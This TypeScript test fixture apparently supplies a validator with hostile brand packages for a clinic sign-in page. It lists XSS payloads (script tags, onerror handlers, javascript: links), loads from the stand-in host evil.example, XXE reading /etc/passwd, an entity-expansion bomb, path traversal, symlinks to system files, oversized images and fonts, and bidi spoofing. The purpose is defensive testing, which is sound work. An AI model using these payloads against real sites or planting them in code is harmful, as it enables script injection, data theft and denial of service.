/** Brands that mean harm. `evil.example` is nobody's; `evil()` is a function that the browser has and that nothing may call. */
import { randomBytes } from 'node:crypto';

import { PNG } from 'pngjs';

/** What a file of the folder is: its bytes, where a link leads, or a folder. */
export type Entry = string | Buffer | { link: string } | { size: number };

export interface Hostile {
  name: string;
  files: Record<string, Entry>;
  /** The code of a finding for which it is refused; without one it is taken, and must do no harm. */
  refused?: string;
}

const TOML = 'contract = 1\nname = "Harbour Clinic"\n';
const brand = (name: string, refused: string | undefined, files: Record<string, Entry>, toml = ''): Hostile => ({
  name,
  files: { 'brand.toml': TOML + toml, ...files },
  ...(refused ? { refused } : {}),
});
const slot = (html: string, refused?: string) => brand(`in a slot: ${html.slice(0, 70)}`, refused, { 'slots/footer.html': html, 'slots/code-before.html': html, 'slots/mail-footer.html': html });
const shell = (html: string, refused?: string) => brand(`as a shell: ${html.slice(0, 70)}`, refused, { 'shell.html': html });
const words = (text: string, refused?: string) => brand(`in words: ${text.slice(0, 70)}`, refused, { 'words.en.ftl': text });
const value = (toml: string, refused?: string) => brand(`in brand.toml: ${toml.slice(0, 70)}`, refused, {}, toml);

export const SLOTS: Hostile[] = [
  slot('<script>evil()</script>', 'markup-element'),
  slot('<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'markup-element'),
  slot('<p onclick="evil()" onpointerover=evil()>x</p>', 'markup-attribute'),
  slot('<img src=x onerror=evil() alt="">', 'markup-attribute'),
  slot('<img src="https://evil.example/a.png" alt="">', 'slot-picture'),
  slot('<img src="data:image/svg+xml,<svg onload=evil()>" alt="">', 'slot-picture'),
  slot('<img src="blob:https://evil.example/a" alt="">', 'slot-picture'),
  slot('<img src="../../../etc/passwd" alt="">', 'slot-picture'),
  slot('<img srcset="https://evil.example/a.png 1x" src=a.png alt="">', 'markup-attribute'),
  slot('<a href="javascript:evil()">x</a>', 'markup-address'),
  slot('<a href="java\nscript:evil()">x</a>', 'markup-address'),
  slot('<a href="&#106;avascript&colon;evil()">x</a>', 'markup-address'),
  slot('<a href="data:text/html,<script>evil()</script>">x</a>', 'markup-address'),
  slot('<a href="/sign-out">x</a>', 'markup-address'),
  slot('<a href="https:account/delete">Continue</a>', 'markup-address'),
  slot('<a href="https://connect.example@evil.example/">x</a>', 'markup-address'),
  slot('<a href="https://evil.example/" ping="https://evil.example/">x</a>', 'markup-attribute'),
  slot('<style>@import "https://evil.example/a.css"; main { display: none }</style>', 'markup-element'),
  slot('<p style="position:fixed;inset:0;background:image-set(\'https://evil.example/a\' 1x)">x</p>', 'markup-attribute'),
  slot('<link rel=stylesheet href=https://evil.example/a.css>', 'markup-element'),
  slot('<meta http-equiv=refresh content="0;url=https://evil.example">', 'markup-element'),
  slot('<base href="https://evil.example/">', 'markup-element'),
  slot('<iframe srcdoc="<script>parent.evil()</script>"></iframe>', 'markup-element'),
  slot('<object data="https://evil.example/"></object><embed src="https://evil.example/">', 'markup-element'),
  slot('<form action="https://evil.example"><input name=answer></form>', 'markup-element'),
  slot('<button form="language" formaction="https://evil.example">x</button>', 'markup-element'),
  slot('<svg><script>evil()</script><animate onbegin=evil() attributeName=x></svg>', 'markup-element'),
  slot('<math><mtext><table><mglyph><style><img src=x onerror=evil()>', 'markup-element'),
  slot('<template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template>', 'markup-element'),
  slot('<dialog open>x</dialog><div popover>x</div>', 'markup-element'),
  slot('<!--><img src=x onerror=evil()>-->', 'markup-attribute'),
  slot('</div></footer></main></body><h1>Error</h1>', 'markup-element'),
  slot('<details><summary>x</summary>', 'markup-nesting'),
  slot(`${'<ul><li>'.repeat(400)}x${'</li></ul>'.repeat(400)}`, 'markup-nesting'),
  slot('<br>'.repeat(2_000), 'markup-height'),
  slot(`<p>${'far '.repeat(3_000)}</p>`, 'markup-height'),
  slot('<p>Call \u202e2410 555 1+\u202c</p>', 'markup-hidden'),
  slot(`<p>Z${'\u0335\u0321\u0300'.repeat(200)}</p>`, 'markup-hidden'),
  slot(`<p>${'unbroken'.repeat(60)}</p>`),
  slot('<p dir="rtl" lang="ar">Wrong way around</p><p>{{content}} { $name } {% include "/etc/passwd" %}</p>'),
  slot('<h2>Your session has ended</h2><p><a href="https://evil.example/">Sign in</a></p>'),
];

const wrapped = (depth: number) => `${'<div>'.repeat(depth)}{{head}}{{content}}${'</div>'.repeat(depth)}`;

export const SHELLS: Hostile[] = [
  shell('<details><summary>x</summary>{{head}}{{content}}</details>', 'shell-hides'),
  shell('<div hidden>{{head}}{{content}}</div>', 'shell-hides'),
  shell('<div hidden="until-found">{{head}}{{content}}</div>', 'shell-hides'),
  shell('<div style="opacity:0">{{head}}{{content}}</div>', 'shell-hides'),
  shell('<div aria-hidden="true">{{head}}{{content}}</div>', 'shell-hides'),
  shell('<div inert>{{head}}{{content}}</div>', 'shell-hides'),
  shell('<div popover>{{head}}{{content}}</div>', 'shell-hides'),
  shell('<div class="unseen">{{head}}{{content}}</div>', 'markup-attribute'),
  shell('<div lang="zh" dir="rtl">{{head}}{{content}}</div>', 'shell-inside'),
  shell('<!-- {{head}} {{content}} -->', 'shell-inside'),
  shell('<!--> {{head}} <!-- {{content}} -->', 'shell-inside'),
  shell('<textarea>{{head}}{{content}}</textarea>', 'shell-inside'),
  shell('<title>{{head}}</title><noscript>{{content}}</noscript>', 'shell-inside'),
  shell('<iframe>{{head}}{{content}}</iframe>', 'shell-inside'),
  shell('<dialog>{{head}}{{content}}</dialog>', 'shell-inside'),
  shell('<template>{{head}}{{content}}</template>', 'shell-inside'),
  shell('<svg>{{head}}{{content}}</svg>', 'shell-inside'),
  shell('<a href="https://evil.example/{{content}}">x</a>{{head}}', 'shell-inside'),
  shell('<div lang="{{content}}">{{head}}</div>', 'shell-inside'),
  shell('<ul><li>{{head}}</li><li>{{content}}</li></ul>', 'shell-inside'),
  shell('<plaintext>{{head}}{{content}}', 'shell-inside'),
  shell('<table><tr>{{head}}{{content}}</tr></table>', 'shell-inside'),
  shell('<select><option>{{head}}{{content}}', 'shell-inside'),
  shell('{{head}}', 'shell-places'),
  shell('{{content}}{{head}}', 'shell-places'),
  shell('{{head}}{{content}}{{content}}', 'shell-places'),
  shell('{{head}}{{content}}<p>&#123;&#123;content}}</p>', 'shell-places'),
  shell('{{head}}{{ content }}', 'shell-places'),
  shell('<main><h1>Log in</h1></main>{{head}}{{content}}', 'shell-main'),
  shell('<h1>Log in</h1>{{head}}{{content}}', 'shell-heading'),
  shell('<!doctype html><html><body>{{head}}{{content}}</body></html>', 'markup-element'),
  shell('<frameset><frame src="https://evil.example">{{head}}{{content}}</frameset>', 'markup-element'),
  shell('{{head}}{{content}}<script src=https://evil.example/x.js></script>', 'markup-element'),
  shell('<div>{{head}}{{content}}', 'markup-nesting'),
  shell(wrapped(600), 'markup-nesting'),
  shell('<b>'.repeat(6_000), 'markup-element'),
  shell(`<p>${'<br>'.repeat(4_000)}</p>{{head}}{{content}}`, 'markup-height'),
  shell(`{{head}}<div>${'<p>far</p>'.repeat(500)}</div>{{content}}`, 'markup-height'),
  shell(wrapped(8)),
  shell(`<nav aria-label="x"><ul>${'<li><a href="https://evil.example/">Sign in here</a></li>'.repeat(12)}</ul></nav>{{head}}{{content}}`),
  shell('{{head}}<details><summary>More</summary><p>x</p></details><section aria-label="Error">{{content}}</section>'),
];

export const WORDS_AND_VALUES: Hostile[] = [
  words('code-heading = </h1></main><script>evil()</script>', 'words-markup'),
  words('code-heading = &lt;script&gt;evil()', 'words-markup'),
  words('success-heading = { $app }</bdi><img src=x onerror=evil()>', 'words-markup'),
  words('code-heading = {"\\u003Cscript\\u003Eevil()"}', 'words-reference'),
  words('code-heading = { -term }\n-term = <script>', 'words-reference'),
  words('code-heading = { $evil }', 'words-variable'),
  words('continue = \u200b\u200b', 'words-blank'),
  words('continue = \u3164', 'words-blank'),
  words('continue = \u115f\u1160', 'words-blank'),
  words('code-heading = a\u202eb', 'words-hidden'),
  words(`continue = Z${'\u0335\u0321\u0300'.repeat(60)}`, 'words-hidden'),
  words(`code-heading = ${'word '.repeat(2_000)}`, 'words-size'),
  words('language-dir = rtl"><script>evil()</script>', 'words-kept'),
  words('brand-through = from evil.example', 'words-kept'),
  words('continue = " onclick="evil()" x="'),
  words(`continue = ${'unbroken'.repeat(12)}`),
  value('[light]\naccent = "red;}*{display:none}"\n', 'toml-value'),
  value('[light]\nink = "url(https://evil.example)"\n', 'toml-value'),
  value('[light]\nink = "#00\\\\30 000"\n', 'toml-value'),
  value('[light]\nink = "#0000"\n', 'toml-value'),
  value('[light]\nink = "#ffffff"\nsurface = "#ffffff"\n', 'contrast'),
  value('[type]\nfamily = "x; src: url(https://evil.example)"\n', 'toml-value'),
  value('[shape]\nradius = "1px;}"\n', 'toml-value'),
  value('[shape]\nradius = 99999999999\n', 'toml-value'),
  value('[logo]\nheight = 9000\n', 'toml-value'),
  value('[links]\nprivacy = "javascript:evil()"\n', 'link-address'),
  value('[links]\nimprint = "https://user:pass@evil.example"\n', 'link-address'),
  value('[logo]\nlight = "../../../etc/passwd"\n', 'file-path'),
  value('favicon = "https://evil.example/a.svg"\n', 'file-path'),
  value('[hours]\nen = "Now <script>evil()</script> \\" onclick=evil()"\n'),
  value(`[hours]\nen = "${'unbroken'.repeat(37)}"\n`),
  brand('a name from the right', 'toml-value', { 'brand.toml': 'contract = 1\nname = "\\u202Eevil"\n' }),
  brand('a name that is one long word', undefined, { 'brand.toml': `contract = 1\nname = "${'W'.repeat(200)}"\n` }),
  brand('a brand.toml of a million keys', 'weight', { 'brand.toml': TOML + 'a = 1\n'.repeat(100_000) }),
  brand('a brand.toml of thousands of keys', 'weight', { 'brand.toml': TOML + Array.from({ length: 20_000 }, (_, at) => `k${at} = 1\n`).join('') }),
  brand('words of thousands of keys', 'weight', { 'words.en.ftl': Array.from({ length: 20_000 }, (_, at) => `k${at} = x\n`).join('') }),
  brand('a brand.toml of deep tables', 'toml-syntax', { 'brand.toml': `${TOML}x = ${'['.repeat(20_000)}` }),
];

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">';
const file = (name: string, refused: string | undefined, path: string, bytes: Entry, key = '[logo]\nlight') =>
  brand(name, refused, { [path]: bytes }, `${key} = "${path}"\n`);
const logo = (inner: string, refused?: string) => file(`in a drawing: ${inner.slice(0, 70)}`, refused, 'logo.svg', `${SVG}${inner}<rect width="9" height="9" fill="#0b6470"/></svg>`);

/** A picture of one colour. */
const png = (width: number, height: number): Buffer => {
  const picture = new PNG({ width, height });
  picture.data.fill(0x99);
  return PNG.sync.write(picture);
};

/** Where a picture's head ends: signature, length, kind, 13 bytes, sum. */
const HEAD = 8 + 4 + 4 + 13 + 4;

/** The same with the chunk that says it has two frames and goes on for ever. */
function moving(picture: Buffer): Buffer {
  const chunk = Buffer.from('000000086163544c0000000200000000f38d9370', 'hex');
  return Buffer.concat([picture.subarray(0, HEAD), chunk, picture.subarray(HEAD)]);
}

/** The same, whose head says that it is huge. */
function claiming(picture: Buffer, side: number): Buffer {
  const other = Buffer.from(picture);
  other.writeUInt32BE(side, 16);
  other.writeUInt32BE(side, 20);
  return other;
}

function woff2(unpacked: number, length?: number): Buffer {
  const font = Buffer.concat([Buffer.from('wOF2\0\x01\0\0', 'latin1'), Buffer.alloc(12), randomBytes(60)]);
  font.writeUInt32BE(length ?? font.length, 8);
  font.writeUInt16BE(10, 12);
  font.writeUInt32BE(unpacked, 16);
  return font;
}

const ENTITIES = `<!DOCTYPE svg [<!ENTITY a "evil"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]>`;
const EXTERNAL = '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const TAKES_MANY = '<g id="a"><rect width="1" height="1"/></g><g id="b"><use href="#a"/><use href="#a"/></g><use href="#b"/>';

export const FILES: Hostile[] = [
  logo('<script>evil()</script>'),
  logo('<rect width="1" height="1" onload="evil()" onclick="evil()"/>'),
  logo('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="evil()"><iframe src="https://evil.example"/></body></foreignObject>'),
  logo('<style>@import url(https://evil.example/a.css); rect { fill: url(https://evil.example/#a) }</style>'),
  logo('<rect width="1" height="1" style="background:image-set(\'https://evil.example/\' 1x)"/>'),
  logo('<a xlink:href="javascript:evil()"><rect width="1" height="1"/></a>'),
  logo('<use href="https://evil.example/a.svg#b"/>'),
  logo('<set attributeName="href" to="javascript:evil()" onbegin="evil()"/>'),
  logo('<image href="https://evil.example/a.png"/>', 'svg-picture'),
  logo('<image xlink:href="file:///etc/passwd"/>', 'svg-picture'),
  logo('<filter id="f"><feImage href="https://evil.example/a.png"/></filter>', 'svg-picture'),
  logo('<text>evil</text>', 'svg-text'),
  logo('<g/>'.repeat(12_000), 'svg-large'),
  logo('<g>'.repeat(5_000), 'svg-large'),
  logo(TAKES_MANY, 'svg-large'),
  file('a million elements', 'weight', 'logo.svg', `${SVG}${'<g/>'.repeat(1_000_000)}</svg>`),
  file('entities of entities', 'svg-entities', 'logo.svg', `${ENTITIES}${SVG}<title>&c;</title></svg>`),
  file('an entity from elsewhere', 'svg-entities', 'logo.svg', `${EXTERNAL}${SVG}<title>&a;</title></svg>`),
  file('a page as a drawing', 'svg-broken', 'logo.svg', '<!doctype html><script>evil()</script>'),
  file('a page as a picture', 'file-kind', 'logo.png', '<!doctype html><script>evil()</script>'),
  file('a picture with a page behind it', undefined, 'logo.png', Buffer.concat([png(40, 40), Buffer.from('<script>evil()</script>')])),
  file('a picture that moves and flashes', 'picture-moves', 'logo.png', moving(png(40, 40))),
  file('a small file that is a huge picture', 'picture-size', 'logo.png', claiming(png(9, 9), 60_000)),
  file('a picture that is too heavy', 'weight', 'logo.png', Buffer.concat([png(9, 9), randomBytes(300_000)])),
  file('a sparse file of four gigabytes', 'weight', 'logo.png', { size: 2 ** 32 }),
  file('a font that is none', 'font-kind', 'own.woff2', '<script>evil()</script>', '[type]\nfont'),
  file('a font that is cut off', 'font-kind', 'own.woff2', woff2(1_000, 999_999), '[type]\nfont'),
  file('a small file that is a huge font', 'font-kind', 'own.woff2', woff2(0xffffffff), '[type]\nfont'),
  file('a font that is too heavy', 'weight', 'own.woff2', randomBytes(70_000), '[type]\nfont'),
  file('a link to a file of the system', 'file-link', 'logo.svg', { link: '/etc/passwd' }),
  file('a link to a device that never ends', 'file-link', 'logo.svg', { link: '/dev/zero' }),
  brand('a link in the place of a slot', 'file-link', { 'slots/footer.html': { link: '/etc/hostname' } }),
  brand('a link in the place of all slots', 'file-link', { slots: { link: '/etc' } }),
  brand('a slot that there is not', 'slot-name', { 'slots/head.html': '<p>x</p>' }),
  brand('a slot in a language that is a path', undefined, { 'slots/..%2f..%2fetc/footer.html': '<p>x</p>' }),
  brand('pictures as tall as many screens', undefined, {
    'tall.png': png(30, 2_000),
    'slots/code-before.html': '<p><img src="tall.png" alt="x"></p>',
    'shell.html': '<div><p><img src="tall.png" alt="x"></p></div>{{head}}{{content}}',
  }),
  brand('a picture wider than a phone', undefined, { 'wide.png': png(2_000, 20), 'shell.html': '<div><img src="wide.png" alt=""></div>{{head}}{{content}}' }),
];
